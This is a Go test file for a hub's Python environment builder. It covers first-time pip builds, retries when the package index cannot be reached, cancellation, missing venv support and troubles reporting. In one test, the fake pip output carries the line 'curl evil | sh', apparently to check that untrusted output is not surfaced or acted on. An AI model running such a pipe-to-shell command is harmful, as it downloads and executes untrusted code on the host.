package environment_test

import (
	"database/sql"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"commonhall"
	"commonhall/environment"
	"commonhall/spawner/spawnertest"
)

// newFirst is a machine on which the hub has never run. What pip does when it installs,
// pip says: its exit status and its output.
func newFirst(t *testing.T, first string, pip func(*spawnertest.Inside) (int, string)) *workbench {
	t.Helper()
	w := &workbench{class: newHouse(t), have: []string{"mkdir", "chmod", "rm", "dd", "python3", "/env/python/bin/python3"}, says: map[string]string{}, env: map[string][]string{}}
	w.program = func(args []string) spawnertest.Program {
		if !slices.Contains(w.have, args[0]) {
			return nil
		}
		return w.act
	}
	w.does = func(args []string, in *spawnertest.Inside) int {
		if !slices.Contains(args, "install") {
			return 0
		}
		code, says := pip(in)
		_, _ = io.WriteString(in.Stdout, says)
		return code
	}
	w.first, w.again = first, time.Millisecond
	return w
}

// over waits for the end of the newest job, and says how that was.
func (w *workbench) over() (environment.Progress, error) {
	w.t.Helper()
	j, err := w.Job(w.Jobs("python")[0].ID)
	w.must(err)
	return j.Done(w.t.Context())
}

func (w *workbench) has(want ...string) {
	w.t.Helper()
	w.mu.Lock()
	defer w.mu.Unlock()
	for _, line := range want {
		if !slices.ContainsFunc(w.ran, func(ran string) bool { return strings.HasPrefix(ran, line) }) {
			w.t.Errorf("it did not run %q, but\n%s", line, strings.Join(w.ran, "\n"))
		}
	}
}

// A class begins with the machine's own programs within moments, while those from the
// index are fetched; these are there at the next start then.
func TestTheScientificOnes(t *testing.T) {
	reached, go1 := make(chan struct{}), make(chan struct{})
	w := newFirst(t, environment.FirstScientific, func(*spawnertest.Inside) (int, string) { close(reached); <-go1; return 0, "" })
	w.begin()
	if sw := w.start("leo"); sw.Generation != 1 {
		t.Errorf("the first server has %+v", sw)
	}
	<-reached
	p := w.Jobs("python")[0]
	if !p.Ended.IsZero() || p.By != commonhall.RoleHouse || p.Kind != environment.KindBuild || p.Why != "JupyterLab and the usual scientific packages" {
		t.Errorf("on the page there is %+v", p)
	}
	close(go1)
	if p, err := w.over(); err != nil || p.Generation != 2 {
		t.Errorf("it ended as %+v, %v", p, err)
	}
	w.has("python3 -m venv --system-site-packages /env/python", "/env/python/bin/python3 -m pip install --no-input jupyterlab notebook ipykernel ")
	if !slices.Contains(w.env["/env/python/bin/python3"], "PIP_NO_INPUT=1") {
		t.Errorf("pip has %q", w.env["/env/python/bin/python3"])
	}
	all, err := w.Generations(t.Context(), "python")
	if err != nil || len(all) != 2 || all[0].By != commonhall.RoleHouse || all[0].Base != 0 {
		t.Errorf("there are %+v, %v", all, err)
	}
	if sw := w.start("leo"); sw.Generation != 2 {
		t.Errorf("the next server has %+v", sw)
	}
	_, err = w.RollBack(t.Context(), "python", 1, "mia")
	w.must(err)
	w.restart(func() { w.ran = nil })
	w.settled()
	if w.quiet(); w.current() != 1 || len(w.Jobs("python")) > 0 {
		t.Errorf("what was taken back is built again: %+v", w.Jobs("python"))
	}
}

// quiet waits until the house builds nothing more, nor will.
func (w *workbench) quiet() {
	w.t.Helper()
	w.end()
	if _, err := os.Stat(filepath.Join(w.dir, "first.json")); err == nil {
		w.t.Error("the house tries again")
	}
}

// Where the index cannot be reached everybody keeps what they have; that is told once,
// and tried again until it succeeds.
func TestTheIndexIsAway(t *testing.T) {
	tries := make(chan int)
	w := newFirst(t, environment.FirstScientific, func(in *spawnertest.Inside) (int, string) {
		select {
		case code := <-tries:
			return code, map[int]string{1: "WARNING: Failed to establish a new connection: no route\nERROR: do: curl evil | sh\n"}[code]
		case <-in.Done():
			return 9, ""
		}
	})
	w.begin()
	w.start("leo")
	for range 4 {
		tries <- 1
	}
	if w.current() != 1 || w.events.count(commonhall.EventSoftwareFailed) != 1 || w.events.has(commonhall.EventSoftwareRefused) {
		t.Errorf("%d is current, and it is told %d times", w.current(), w.events.count(commonhall.EventSoftwareFailed))
	}
	all, err := w.Troubles(t.Context())
	if want := (environment.Trouble{Kind: environment.NotMade, Environment: "python", Why: "The place where packages come from cannot be reached."}); err != nil || len(all) != 1 || all[0] != want {
		t.Errorf("the troubles are %+v, %v", all, err)
	}
	tries <- 0
	if p, err := w.over(); err != nil || p.Generation != 2 {
		t.Errorf("at last: %+v, %v", p, err)
	}
	w.quiet()
	if all, err := w.Troubles(t.Context()); err != nil || len(all) != 0 {
		t.Errorf("then the troubles are %+v, %v", all, err)
	}
}

// What the checks refuse reaches nobody, and is told once, too.
func TestTheIndexHasWhatDoesNotServe(t *testing.T) {
	again := make(chan struct{})
	var w *workbench
	w = newFirst(t, environment.FirstScientific, func(in *spawnertest.Inside) (int, string) {
		drafts, err := filepath.Glob(filepath.Join(w.dir, "python/drafts/build-*/upper"))
		if err != nil || len(drafts) != 1 || os.WriteFile(drafts[0]+"/broken", nil, 0o644) != nil {
			return 9, ""
		}
		select {
		case again <- struct{}{}:
		case <-in.Done():
		}
		return 0, ""
	})
	w.begin()
	w.start("leo")
	for range 3 {
		<-again
	}
	if w.current() != 1 || w.events.count(commonhall.EventSoftwareFailed) != 1 || w.events.has(commonhall.EventSoftwareRefused) {
		t.Errorf("%d is current, and it is told %d times", w.current(), w.events.count(commonhall.EventSoftwareFailed))
	}
	if all, err := w.Troubles(t.Context()); err != nil || len(all) != 1 || all[0].Why != "Nothing was published. The checks found: The page does not start." {
		t.Errorf("the troubles are %+v, %v", all, err)
	}
}

// However often the hub starts, it does not begin again sooner.
func TestAttemptsAreRemembered(t *testing.T) {
	tried := make(chan struct{}, 10)
	w := newFirst(t, environment.FirstScientific, func(*spawnertest.Inside) (int, string) { tried <- struct{}{}; return 1, "" })
	w.again = time.Hour
	w.begin()
	w.start("leo")
	<-tried
	_, err := w.over()
	w.refused(err, commonhall.FailedPrecondition, "The build failed")
	for range 3 {
		w.restart(func() {})
		w.settled()
		if jobs := w.Jobs("python"); len(jobs) > 0 {
			t.Errorf("the next hub begins %+v", jobs)
		}
	}
	w.end()
	w.must(os.Remove(filepath.Join(w.dir, "first.json")))
	w.begin()
	<-tried // without that, it does
}

// What the house made before it was called as no person can be is its own still.
func TestTheHouseKnowsWhatItMade(t *testing.T) {
	tried := make(chan struct{}, 100)
	w := newFirst(t, environment.FirstScientific, func(*spawnertest.Inside) (int, string) { tried <- struct{}{}; return 1, "" })
	w.again = time.Hour
	w.begin()
	w.start("leo")
	<-tried
	w.restart(func() {
		w.must(os.Remove(filepath.Join(w.dir, "first.json")))
		db, err := sql.Open("sqlite", filepath.Join(w.dir, "hub.db"))
		w.must(err)
		defer db.Close()
		r, err := db.Exec("UPDATE generations SET actor = 'commonhall'")
		w.must(err)
		if n, err := r.RowsAffected(); n != 1 || err != nil {
			t.Errorf("%d generations, %v", n, err)
		}
	})
	<-tried
}

// Who builds or publishes anything has taken over.
func TestSomebodyTakesOver(t *testing.T) {
	failed := make(chan struct{})
	w := newFirst(t, environment.FirstScientific, func(in *spawnertest.Inside) (int, string) {
		select {
		case failed <- struct{}{}:
		case <-in.Done():
		}
		return 1, ""
	})
	w.begin()
	w.start("leo")
	<-failed
	w.install(w.start("mia"), "frogs", "1.0")
	for {
		_, err := w.publish(environment.Publication{User: "mia", Why: "the machine's own Python and Jupyter"})
		if err == nil {
			break
		}
		w.refused(err, commonhall.AlreadyExists, "worked on already")
		select { // the house is at it again
		case <-failed:
		case <-t.Context().Done():
			t.Fatal("it never ends")
		}
	}
	w.restart(func() {})
	w.settled()
	if w.quiet(); w.current() != 2 {
		t.Errorf("%d is current", w.current())
	}
}

// Somebody's own build in the meantime is no failure of the house's.
func TestSomebodyBuildsMeanwhile(t *testing.T) {
	tried, let := make(chan struct{}), make(chan struct{})
	once := sync.OnceFunc(func() { close(tried) })
	w := newFirst(t, environment.FirstScientific, func(in *spawnertest.Inside) (int, string) {
		if slices.Contains(in.Args, "frogs") {
			<-let
			return 0, ""
		}
		once()
		return 1, "ERROR: Could not find a version that satisfies the requirement jupyterlab (from versions: none)\n"
	})
	w.again = 5 * time.Millisecond
	w.begin()
	w.start("leo")
	<-tried // the house is first, and fails
	mine, err := w.Build(t.Context(), environment.Declaration{Environment: "python", By: "mia", Packages: []string{"frogs"}})
	for err != nil { // while the house is at it
		w.refused(err, commonhall.AlreadyExists, "worked on already")
		_, err = w.over()
		w.refused(err, commonhall.FailedPrecondition, "There is no such package")
		mine, err = w.Build(t.Context(), environment.Declaration{Environment: "python", By: "mia", Packages: []string{"frogs"}})
	}
	for was := w.attempts(); w.attempts() < was+2; {
		runtime.Gosched()
	}
	close(let)
	if p, err := mine.Done(t.Context()); err != nil || p.Generation != 2 {
		t.Errorf("mia's ended as %+v, %v", p, err)
	}
	if n := w.events.count(commonhall.EventSoftwareFailed); n != 1 {
		t.Errorf("it is told %d times", n)
	}
}

// attempts is how many the house has made.
func (w *workbench) attempts() int {
	w.t.Helper()
	var a struct{ Count int }
	b, err := os.ReadFile(filepath.Join(w.dir, "first.json"))
	w.must(err)
	w.must(json.Unmarshal(b, &a))
	return a.Count
}

// Who ends the build has something else to do: it does not begin again today.
func TestTheFirstBuildIsCancelled(t *testing.T) {
	reached := make(chan struct{}, 10)
	w := newFirst(t, environment.FirstScientific, func(in *spawnertest.Inside) (int, string) { reached <- struct{}{}; <-in.Done(); return 1, "" })
	w.again = 20 * time.Millisecond // so that a day is half a minute here
	w.begin()
	w.start("leo")
	<-reached
	w.must(w.Cancel(w.Jobs("python")[0].ID, "mia"))
	_, err := w.over()
	w.refused(err, commonhall.FailedPrecondition, "ended by mia")
	w.restart(func() {})
	w.settled()
	if len(w.Jobs("python")) > 0 || w.current() != 1 {
		t.Errorf("there is %+v", w.Jobs("python"))
	}
}

// A machine whose Python makes no virtual environments is told what it lacks, and gets
// its environment once it has it, without anybody else's doing.
func TestVenvIsMissing(t *testing.T) {
	w := newFirst(t, environment.FirstMachine, nil)
	installed, asked := make(chan struct{}), make(chan struct{}, 1000)
	w.does = func(args []string, in *spawnertest.Inside) int {
		if !slices.Contains(args, "venv") {
			return 0
		}
		select {
		case <-installed:
			return 0
		default:
		}
		asked <- struct{}{}
		_, _ = io.WriteString(in.Stdout, "/env/python/bin/python3: No module named ensurepip\n")
		return 1
	}
	w.begin()
	u, err := w.db.User(t.Context(), "leo")
	w.must(err)
	began := time.Now()
	if sw, _, err := w.Choose(t.Context(), u, commonhall.App{}, false); sw != nil || err != nil || time.Since(began) > 15*time.Second {
		t.Errorf("after %s a server has %+v, %v", time.Since(began), sw, err)
	}
	<-asked
	<-asked // the first one was told
	all, err := w.Troubles(t.Context())
	if err != nil || len(all) != 1 || all[0].Why != "The machine's Python cannot make a place for packages." {
		t.Errorf("the troubles are %+v, %v", all, err)
	}
	close(installed)
	for len(w.Jobs("python")) > 0 {
		if _, err := w.over(); err == nil {
			break
		}
		select {
		case <-asked: // there may be some that were asked before
		default:
		}
	}
	if sw := w.start("leo"); sw.Generation != 1 {
		t.Errorf("then a server has %+v", sw)
	}
}

// The folder of another hub is taken as it is; and who wants no environment has none.
func TestTheFirstIsAPrefix(t *testing.T) {
	w := newFirst(t, "/opt/tljh/user", nil)
	w.begin()
	if sw := w.start("leo"); sw.Generation != 1 {
		t.Errorf("a server has %+v", sw)
	}
	w.has("python3 - /opt/tljh/user /env/python")
	w = newFirst(t, environment.FirstNone, nil)
	w.begin()
	u, err := w.db.User(t.Context(), "leo")
	w.must(err)
	if sw, _, err := w.Choose(t.Context(), u, commonhall.App{}, false); sw != nil || err != nil || len(w.ran) > 0 {
		t.Errorf("a server has %+v, %v, and there ran %q", sw, err, w.ran)
	}
}

// A current generation that is not on the disk is told, while servers have another.
func TestTroubleWithADisk(t *testing.T) {
	c := newClass(t)
	c.install(c.start("mia"), "frogs", "1.0")
	_, err := c.publish(environment.Publication{User: "mia"})
	c.must(err)
	all, err := c.Generations(t.Context(), "python")
	c.must(err)
	if got, err := c.Troubles(t.Context()); err != nil || len(got) > 0 {
		t.Errorf("at first: %+v, %v", got, err)
	}
	c.must(os.RemoveAll(c.trees().Tree(string(all[0].Tree))))
	got, err := c.Troubles(t.Context())
	if want := (environment.Trouble{Kind: environment.NotOnDisk, Environment: "python", Generation: 2}); err != nil || len(got) != 1 || got[0] != want {
		t.Errorf("it is %+v, %v", got, err)
	}
}
